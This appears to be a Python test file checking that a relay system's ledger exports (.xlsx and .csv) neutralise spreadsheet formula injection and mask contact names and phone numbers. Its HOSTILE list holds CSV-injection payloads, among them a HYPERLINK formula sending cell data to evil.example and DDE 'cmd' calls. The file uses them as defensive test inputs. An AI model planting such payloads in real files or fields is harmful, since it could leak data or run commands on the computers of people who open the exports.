"""Ledger exports (.xlsx and .csv) never hand a spreadsheet program a formula to run, and
contacts stay useful for a follow-up call while masked the way the work plan asks."""

from __future__ import annotations

import csv
import io

import openpyxl

from core.db import Database
from core.export_cells import FORMULA_TRIGGERS, csv_cell
from push.relay import service as relay
from push.relay.ledger import mask_contact
from subscriptions import service as subscriptions
from tests.push.relay.helpers import release, task_of
from tests.subscriptions.helpers import credit_code

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


async def _county_with_hostile_contacts(db: Database) -> int:
    async with db.session() as s:
        hub = await subscriptions.create_hub(s, name="泾源县工业园区", kind="park")
        await subscriptions.add_hub_contact(s, hub.id, channel="telegram", address="9001", display_name="联络员")
        names = [*HOSTILE, "张三 13812345678", "李四"]
        for n, person in enumerate(names, start=1):
            ent = await subscriptions.save_enterprise(s, name=f"泾源第{n}有限公司", credit_code=credit_code(n))
            await subscriptions.add_enterprise_contact(s, ent.id, channel="telegram", address=str(1_000_000 + n),
                                                       display_name=person)
            await subscriptions.add_hub_member(s, hub.id, ent.id)
    return hub.id


async def _hostile_ledger(db: Database) -> tuple[bytes, bytes, bytes]:
    hub_id = await _county_with_hostile_contacts(db)
    policy = await release(db)
    task = await task_of(db, policy.id, hub_id)
    async with db.session() as session:
        await relay.forward_through_system(session, task.id, "park_operator")
    async with db.session() as session:
        await relay.report_external_forward(session, task.id, 3, HOSTILE[0], actor="park_operator")
    async with db.reader() as session:
        xlsx = await relay.export_ledger(session, "xlsx", policy_id=policy.id)
        tasks_csv = await relay.export_ledger(session, "csv", policy_id=policy.id)
        members_csv = await relay.export_ledger(session, "csv", policy_id=policy.id, sheet="members")
    return xlsx, tasks_csv, members_csv


async def test_no_exported_cell_is_a_formula(db: Database) -> None:
    xlsx, tasks_csv, members_csv = await _hostile_ledger(db)

    book = openpyxl.load_workbook(io.BytesIO(xlsx))
    texts_seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts_seen.append(cell.value)
    assert HOSTILE[0] in texts_seen  # the note is kept exactly, as text
    assert any(t.startswith(("+", "-", "@")) for t in texts_seen)

    quoted = 0
    for data in (tasks_csv, members_csv):
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
            for value in row:
                assert not value.startswith(FORMULA_TRIGGERS), value
                quoted += value.startswith("'") and value[1:].startswith(FORMULA_TRIGGERS)
    assert quoted >= 2


async def test_ledger_contacts_are_masked_but_useful(db: Database) -> None:
    _xlsx, _tasks_csv, members_csv = await _hostile_ledger(db)
    rows = list(csv.DictReader(io.StringIO(members_csv.decode("utf-8-sig"))))
    contacts = {row["联系人"] for row in rows}
    assert "张* 138****5678" in contacts and "李*" in contacts
    assert "13812345678" not in members_csv.decode("utf-8-sig")


def test_contact_masking_keeps_what_a_follow_up_needs() -> None:
    assert mask_contact("张三") == "张*"
    assert mask_contact("欧阳小明") == "欧***"
    assert mask_contact("王") == "王*"
    assert mask_contact("张三 13812345678") == "张* 138****5678"
    assert mask_contact("李先生（139-1234-5678）") == "李**（139-****-5678）"
    assert mask_contact("") == ""


def test_csv_cells_are_neutralised_and_numbers_kept() -> None:
    assert [csv_cell(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert csv_cell(-5) == -5 and csv_cell("2026-03-02") == "2026-03-02" and csv_cell("张三") == "张三"
